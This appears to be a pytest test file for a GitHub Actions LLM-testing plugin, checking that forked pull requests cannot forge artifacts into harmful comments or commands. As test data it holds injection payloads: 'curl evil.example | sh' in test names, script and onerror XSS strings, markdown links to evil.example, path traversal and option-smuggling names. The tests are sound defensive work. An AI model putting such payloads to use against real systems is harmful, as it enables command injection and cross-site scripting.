"""Code from elsewhere: it replays, its run writes nothing, and a job without its code comments."""

from __future__ import annotations

import json
import re

import pytest

from pytest_llmops.cassettes.redaction import KEY_VARIABLES
from pytest_llmops.github import testing
from pytest_llmops.github.maintaining import Command
from pytest_llmops.reports.pull_request import NeedsRecording
from tests.action.conftest import SHA, Shop
from tests.action.hub import READ_ONLY
from tests.conftest import REPOSITORY

FORK = "mallory/shop"


def fork_run(shop: Shop, **how):
    """A fork's run: no secrets, a token that may only read."""
    return shop.pull_request(head=FORK, key=False, token=READ_ONLY, **how)


def test_the_job_after_a_forks_run_writes_its_comment(shop: Shop, main: Shop) -> None:
    shop.file("app.py", (shop.folder / "app.py").read_text().replace('["content"]', '["content"][:3]'))
    job = fork_run(shop)
    assert job.outputs["conclusion"] == "regression", job.log
    assert not shop.hub.comments
    assert not job.annotations("warning"), "a fork's token may not comment; nobody can help it"
    commented = shop.comment_job(shop.runs, token="ghs_workflow")
    assert commented.conclusion == "success", commented.log
    (comment,) = shop.hub.comments[7]
    assert commented.outputs["comment-url"] == comment["html_url"]
    assert "regressed" in comment["body"]
    assert f"/commit/{SHA}" in comment["body"]
    ran = [step.name for step in commented.steps if step.outcome == "success"]
    assert ran == ["Set up Python", "Install pytest-llmops", "Comment on the finished run"]


def test_the_comment_of_a_forks_run_says_nothing_that_the_artifact_made_up(shop: Shop, main: Shop) -> None:
    fork_run(shop)
    run = shop.runs
    members = shop.hub.members(run, "llm-report")
    view = json.loads(members["view.json"])
    view |= {
        "run_url": "https://evil.example/run",
        "report_url": "https://evil.example/report",
        "server_url": "https://evil.example",
        "repository": "evil/evil",
        "pull_request": 1,
        "head_sha": "f" * 40,
        "title": "[click](https://evil.example)",
        "comment_id": "other --> <script>",
        "notes": ["<img src=x onerror=alert(1)> @everyone [click](https://evil.example) ![x](https://evil.example/x)"],
        "directory": "](https://evil.example)",
        "needs_recording": [
            {
                "test": "x; curl evil.example | sh #",
                "changed": "closest\n  re-record: curl evil.example/2",
                "command": "rm",
            }
        ],
        "baseline": {"ref": "main](https://evil.example)", "sha": "../../evil", "created": None, "path": None},
    }
    shop.hub.artifacts[run].clear()
    shop.hub.artifact(run, "llm-report", {**members, "view.json": json.dumps(view), "../../../pwned": "x"})
    commented = shop.comment_job(run)
    assert commented.conclusion == "success", commented.log
    (comment,) = shop.hub.comments[7]
    body = comment["body"]
    assert "](https://evil.example" not in re.sub("<pre>.*?</pre>", "", body, flags=re.DOTALL)
    assert "<img" not in body
    assert "<script" not in body
    assert "evil/evil" not in body
    assert "@everyone" not in body
    assert "<pre>gh pr checkout 7 &amp;&amp; pytest --llm-record=refresh</pre>" in body, "no name of a test at all"
    assert "evil.example/2" not in body
    assert body.rstrip().endswith("<!-- pytest-llmops:default -->")
    assert list(shop.hub.comments) == [7]
    assert not list(shop.folder.parent.rglob("pwned"))


def forged(shop: Shop, **view) -> str:
    """The comment of a fork's run whose artifact says something else."""
    fork_run(shop)
    run = shop.runs
    members = shop.hub.members(run, "llm-report")
    content = json.dumps(json.loads(members["view.json"]) | view)
    shop.hub.artifacts[run].clear()
    shop.hub.artifact(run, "llm-report", {**members, "view.json": content})
    commented = shop.comment_job(run)
    assert commented.conclusion == "success", commented.log
    return shop.hub.comments[7][0]["body"]


def test_no_artifact_pushes_out_whose_code_measured_it(shop: Shop, main: Shop) -> None:
    body = forged(shop, notes=["Reviewed and approved by the maintainers."] * 50, foreign=False)
    under_the_verdict, _, rest = body.partition("Compared with")
    assert "Measured by a run of the fork's own code" in under_the_verdict
    assert "The fork's run remarks:\n\n- Reviewed and approved" in rest
    shop.pull_request(8, "own")
    shop.comment_job(shop.runs)
    assert "fork's" not in shop.hub.comments[8][0]["body"]


NO_NAMES = (
    *("--basetemp=/home", "-pevil.py", "@args.py", "/etc/x.py", "a/../../x.py::test", "C:\\x.py", "x.txt::test"),
    "x.py::" + "a" * 400,
)


@pytest.mark.parametrize("name", NO_NAMES)
def test_no_name_becomes_an_option_of_the_command_that_a_maintainer_pastes(name: str) -> None:
    need = Command(7).of(NeedsRecording(name))
    assert need.command == "gh pr checkout 7 && pytest --llm-record=refresh"
    assert need.whole
    quoted = Command().of(NeedsRecording("x.py::t; curl evil | sh"))
    assert quoted.command == "pytest 'x.py::t; curl evil | sh' --llm-record=refresh"


@pytest.mark.parametrize("folder", ["/etc", "../elsewhere", "a/../../b", "-", "--", "a\nb", "C:\\x"])
def test_no_folder_leads_out_of_the_checkout(folder: str) -> None:
    need = Command(7, folder, folder).of(NeedsRecording("x.py"))
    assert need.command == "gh pr checkout 7 && pytest x.py --llm-record=refresh"


def test_the_command_of_a_forged_artifact(shop: Shop, main: Shop) -> None:
    needs = [{"test": name, "changed": "x", "command": "rm"} for name in ("-pevil.py", "tests/test_x.py::test_y")]
    body = forged(shop, conclusion="needs-recording", directory="../../etc", needs_recording=needs)
    assert re.findall("<pre>(gh .*?)</pre>", body) == [
        "gh pr checkout 7 &amp;&amp; pytest --llm-record=refresh",
        "gh pr checkout 7 &amp;&amp; pytest tests/test_x.py::test_y --llm-record=refresh",
    ]
    assert "<code>-pevil.py</code> (such a name can be no part of a command" in body


def test_an_artifact_that_is_no_view_is_refused(shop: Shop) -> None:
    shop.hub.pull(7, "shorter", head=FORK, sha=SHA)
    for number, content in enumerate(("{", '{"conclusion": "rm -rf"}', '{"run": null, "conclusion": 3}'), 500):
        shop.hub.run(number, event="pull_request", branch="shorter", sha=SHA, head=FORK)
        shop.hub.artifact(number, "llm-report", {"view.json": content})
        commented = shop.comment_job(number)
        assert commented.conclusion == "failure"
        (error,) = commented.annotations()
        assert "is no view of a run" in error.message
        assert "Traceback" not in commented.log
    shop.hub.run(600, event="pull_request", branch="shorter", sha=SHA, head=FORK)
    shop.hub.raw_artifact(600, "llm-report", b"no zip at all")
    assert "no zip archive" in shop.comment_job(600).annotations()[0].message
    assert not shop.hub.comments


def test_a_pull_request_that_moved_on_gets_no_comment_of_an_old_run(shop: Shop) -> None:
    shop.hub.pull(7, "shorter", head=FORK, sha="9" * 40)
    shop.hub.run(500, event="pull_request", branch="shorter", sha=SHA, head=FORK)
    shop.hub.artifact(500, "llm-report", {"view.json": '{"run": null, "conclusion": "success"}'})
    commented = shop.comment_job(500)
    assert commented.conclusion == "success"
    assert "No open pull request" in commented.annotations("notice")[0].message
    assert not shop.hub.comments


def test_a_forks_branch_named_main_is_neither_baseline_nor_recordings(shop: Shop, main: Shop) -> None:
    shop.hub.run(900, event="push", branch="main", sha="d" * 40, head=FORK)
    shop.hub.artifact(900, "llm-report", {"run.json": "{}"})
    poisoned = {"version": 1, "files": {"cassettes/test_shop/x.json": {"base": None, "content": "{}"}}}
    for number, event in ((901, "push"), (902, "pull_request")):
        shop.hub.run(number, event=event, branch="main", sha="d" * 40, head=FORK)
        shop.hub.artifact(number, "llm-report-cassettes", {"recordings.json": json.dumps(poisoned)})
    job = fork_run(shop, branch="main")
    assert job.outputs["baseline-sha"] == "a" * 40, job.log
    assert job.outputs["conclusion"] == "success", job.log
    assert not (shop.folder / "cassettes/test_shop/x.json").exists()


def test_a_miss_of_a_fork_is_one_neutral_conclusion(shop: Shop, main: Shop) -> None:
    shop.file("prompt.txt", "In short: ")
    shop.file("pytest.ini", "[pytest]\naddopts = --junit-prefix=shop\n")
    asked = len(shop.provider.requests)
    job = fork_run(shop)
    assert job.conclusion == "success", job.log
    assert job.outputs["conclusion"] == "needs-recording"
    assert len(shop.provider.requests) == asked
    assert len(job.annotations()) == 0
    assert "need recording by a maintainer" in job.annotations("notice")[-1].message
    shop.comment_job(shop.runs)
    (comment,) = shop.hub.comments[7]
    assert "gh pr checkout 7" in comment["body"]
    assert "test_shop.py::test_shop" in comment["body"]
    assert comment["body"].count("has no recording") <= 1
    assert "In short" in comment["body"]


def test_an_error_that_only_speaks_like_a_miss_is_none(shop: Shop, main: Shop) -> None:
    shop.file(
        "test_told.py",
        """
        import pytest

        @pytest.mark.llm_eval
        def test_told(llm_eval):
            assert llm_eval.run(lambda: "x").text == "'cassettes/x.json' has no recording for call 1"
        """,
    )
    job = fork_run(shop)
    assert (job.conclusion, job.outputs["conclusion"]) == ("failure", "failure"), job.log


def test_a_fork_needs_no_token_at_all(shop: Shop, main: Shop) -> None:
    job = shop.pull_request(head=FORK, key=False, token="")
    assert (job.conclusion, job.outputs["conclusion"]) == ("success", "success"), job.log
    assert not shop.hub.comments


def test_a_miss_on_mains_own_run_is_red(shop: Shop, main: Shop) -> None:
    shop.file("prompt.txt", "In short: ")
    job = shop.push(key=False)
    assert job.conclusion == "failure", job.log
    assert job.outputs["conclusion"] == "failure"


def test_a_miss_beside_a_real_failure_is_red(shop: Shop, main: Shop) -> None:
    shop.file("prompt.txt", "In short: ")
    shop.file("test_plain.py", "def test_plain():\n    assert not 'this'\n")
    job = fork_run(shop)
    assert job.conclusion == "failure", job.log
    assert job.outputs["conclusion"] == "failure"
    assert "test_plain" in job.step("Gate").log


def test_dependabot_and_a_repository_without_keys_are_neutral_too(shop: Shop, main: Shop) -> None:
    shop.file("prompt.txt", "In short: ")
    shop.hub.pull(8, "dependabot/pip/httpx", sha=SHA, user={"login": "dependabot[bot]"})
    job = shop.pull_request(8, "dependabot/pip/httpx", token=READ_ONLY, key=False)
    assert (job.conclusion, job.outputs["conclusion"]) == ("success", "needs-recording"), job.log
    job = shop.pull_request(7, key=False, inputs={"mode": "replay"})
    assert job.conclusion == "failure", "who chose replay records on their own machine, and can"


def test_a_key_of_a_gateway_counts_and_where_none_is_known_the_comment_names_the_way_out(
    shop: Shop, main: Shop
) -> None:
    shop.file("prompt.txt", "Tell me: ")
    other = {"LITELLM_MASTER": "x"}
    unknown = shop.pull_request(8, "b", key=False, env=other)
    assert unknown.outputs["conclusion"] == "needs-recording", unknown.log
    assert "pytest-args: --llm-record=refresh" in shop.hub.comments[8][0]["body"]
    told = shop.pull_request(8, "b", key=False, env=other, inputs={"pytest-args": "--llm-record=refresh"})
    assert told.outputs["conclusion"] == "success", told.log
    shop.forget_recordings()
    known = shop.pull_request(key=False, env={"LITELLM_API_KEY": "x"})
    assert (known.outputs["conclusion"], len(shop.provider.requests)) == ("success", 24), known.log


def test_what_counts_as_a_key() -> None:
    assert not testing.has_key({"OPENAI_API_KEY": " ", "API_KEY_FILE": "x", "GITHUB_TOKEN": "x"})
    for name in ("ANY_API_KEY", "AWS_SECRET_ACCESS_KEY", *testing.KEYS_OF_CLOUDS):
        assert testing.has_key({name: "x"}), name
    told = (REPOSITORY / "docs/action.md").read_text(encoding="utf-8")
    others = {name for name in KEY_VARIABLES if not name.endswith("_API_KEY")}
    assert all(f"`{name}`" in told for name in others | set(testing.KEYS_OF_CLOUDS))


def test_a_project_whose_node_ids_begin_above_it(shop: Shop) -> None:
    for name in ("app.py", "conftest.py", "prompt.txt", "test_shop.py", "cases.jsonl"):
        shop.file(f"app/{name}", (shop.folder / name).read_text())
        (shop.folder / name).unlink()
    shop.file("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-ra'\n")
    inside = {"working-directory": "app"}
    shop.record()
    assert shop.push(inputs=inside).conclusion == "success"
    good = (shop.folder / "app/app.py").read_text()
    shop.file("app/app.py", good.replace('["content"]', '["content"][:0]'))
    shop.hub.files[7] = ["app/cases.jsonl"]
    job = shop.pull_request(inputs=inside)
    assert job.outputs["conclusion"] == "regression", job.log
    assert {one.options["file"] for one in job.annotations() if "file" in one.options} == {"app/test_shop.py"}
    assert "datasets: <code>app/cases.jsonl</code>" in shop.hub.comments[7][0]["body"]
    shop.file("app/app.py", good)
    shop.file("app/prompt.txt", "In short: ")
    job = fork_run(shop, number=8, branch="b", inputs=inside)
    assert job.outputs["conclusion"] == "needs-recording", job.log
    shop.comment_job(shop.runs)
    (comment,) = shop.hub.comments[8]
    wanted = "gh pr checkout 8 &amp;&amp; cd app &amp;&amp; pytest test_shop.py::test_shop --llm-record=refresh"
    assert f"<pre>{wanted}</pre>" in comment["body"]
